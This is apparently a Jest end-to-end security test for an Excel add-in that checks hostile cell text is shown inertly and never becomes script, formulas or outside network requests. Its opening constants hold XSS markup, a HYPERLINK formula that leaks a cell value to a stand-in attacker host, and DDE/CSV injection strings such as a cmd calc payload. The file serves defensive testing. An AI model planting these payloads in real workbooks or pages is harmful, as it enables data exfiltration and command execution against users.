import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { openPackage } from "../../src/adapters/xlsx/package/package";
import { readWorkbook } from "../../src/adapters/xlsx/read/read-workbook";
import type { CellValue, WorkbookData } from "../../src/core/workbook/workbook-data";
import { taskpaneDe as texts } from "../../src/i18n/taskpane.de";
import { validateWorkbook } from "../support/files/validate";
import { headers, row, sheet, workbook, year } from "../support/workbooks/workbook";
import { xlsxOf } from "../support/workbooks/xlsx-of";
import { startProduct, type Product } from "./product";

const MARKUP = '<img src="x" onerror="top.attacked=1;window.attacked=1"><script>top.attacked=1</script>';
const FORMULA = '=HYPERLINK("https://boese.example/?"&A1;"Klick")';
const OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=1+1", "javascript:alert(1)", "${7*7}{{7*7}}"];

let product: Product;

beforeAll(async () => {
  product = await startProduct();
});
afterAll(() => product.close());

/** Every text that people can type, hostile: cells of all columns, headers, sheet and table names. */
function hostile(): WorkbookData {
  const texted = (text: string): CellValue[] => headers.map((name) => (name === "ID" ? `${text}` : `${text} ${name}`));
  const plausible = (text: string): CellValue[] => row({ Thema: text, Arbeitsstand: text, Perspektive: ` ${text}  ` });
  const rows = [MARKUP, FORMULA, ...OTHERS].flatMap((text) => [texted(text), plausible(text)]);
  const spelled = row({ Art: `Interkommunal`, Thema: `${FORMULA}  `, Arbeitsstand: `  ${MARKUP}` });
  const other = sheet("<b>Blatt & 'so'", [[...headers, MARKUP, FORMULA], ...rows], { table: "Massnahmen_2013" });
  return workbook(year(2014, ...rows, spelled), other);
}

/** What pane and page hold that no text of a cell may become. */
async function strangers(): Promise<readonly string[]> {
  const pane = await product.pane();
  const find = (root: string): string[] =>
    Array.from(document.querySelectorAll(`${root} img, ${root} script, ${root} a[href], ${root} [onerror]`))
      .map((each) => each.outerHTML)
      .filter((html) => /onerror|attacked|javascript|boese/.test(html));
  return [...(await pane.evaluate(find, "body")), ...(await product.bench.page.evaluate(find, "body"))];
}

const attacked = async (): Promise<boolean> => {
  const has = (): boolean => "attacked" in window;
  return (await product.bench.page.evaluate(has)) || (await (await product.pane()).evaluate(has));
};

/** A column of a table by its header, in which every word may stand: Excel takes it for a name. */
const REFERENCE = /Massnahmen_\d+\[(?:\[(?:'.|[^\]'])*\]|(?:'.|[^\]'])*)\]/g;

/** Cells whose formula came from a text. */
const strangeFormulas = async (): Promise<readonly string[]> => {
  const formulas = await product.bench.inBook(
    (book) =>
      book.sheets.flatMap(({ cells }) =>
        Array.from(cells.formulas.values()).flatMap((line) => Array.from(line.values())),
      ),
    null,
  );
  return formulas.filter((formula) => /HYPERLINK|cmd|SUM\(1\)|boese/.test(formula.replace(REFERENCE, "")));
};

describe("a workbook full of markup and formulas as texts", () => {
  test("is checked and shown, and its texts are shown as they stand", async () => {
    await product.open(xlsxOf(hostile()));
    await product.check();
    expect((await product.findings()).length).toBeGreaterThan(20);
    expect(await product.text()).toContain("<img src=");
    expect(await strangers()).toEqual([]);
  });

  test("is corrected: texts that look like formulas stay texts", async () => {
    const pane = await product.pane();
    await pane
      .getByRole("button", { name: /sicheren Korrekturen|Sichere Korrektur/ })
      .first()
      .click();
    await product.idle();
    await pane.locator(".wide").last().click();
    await product.idle();
    expect(await strangeFormulas()).toEqual([]);
    expect(await strangers()).toEqual([]);
  });

  test("is marked, reported and compared: no markup, no formula, no broken file", async () => {
    const pane = await product.pane();
    await pane.locator("details.tools summary").click();
    await pane.getByRole("switch", { name: texts.check.marks }).click();
    await product.idle();
    await product.press(texts.check.report);
    await product.turnTo("compare");
    await product.press(texts.compare.write);
    await product.bench.calculated();
    expect(await strangeFormulas()).toEqual([]);
    expect(await strangers()).toEqual([]);
    const saved = await product.bench.save();
    expect(await validateWorkbook(saved)).toEqual([]);
    expect(readWorkbook(openPackage(saved)).sheets.map(({ name }) => name)).toContain("Prüfbericht");
  });

  test("a sheet set up from it has no formulas either", async () => {
    await product.turnTo("setup");
    await product.press(texts.setup.createYear("2015"));
    expect(await strangeFormulas()).toEqual([]);
  });

  test("has run nothing", async () => {
    expect(await attacked()).toBe(false);
  });
});

describe("the network", () => {
  test("sees the add-in ask its own server and nobody else, from start to end", () => {
    const { requests, url } = product.bench;
    expect(requests.length).toBeGreaterThan(10);
    expect(requests.filter((each) => !each.startsWith(`${url}/`) && !each.startsWith("data:"))).toEqual([]);
    const own = requests.filter((each) => each.includes("/addin/") || each.includes("/office-js/"));
    expect(own.filter((each) => /[?&](?!_host_Info=)\w+=/.test(new URL(each).search))).toEqual([]);
  });

  test("is not even tried past the page's policy", () => {
    expect(product.bench.consoleErrors).toEqual([]);
  });

  test("the page's policy allows no script within the page, and no address but its own", async () => {
    const pane = await product.pane();
    const policy = await pane.locator("meta[http-equiv]").first().getAttribute("content");
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    expect(policy).toMatch(/connect-src 'self'(;|$)/);
  });
});
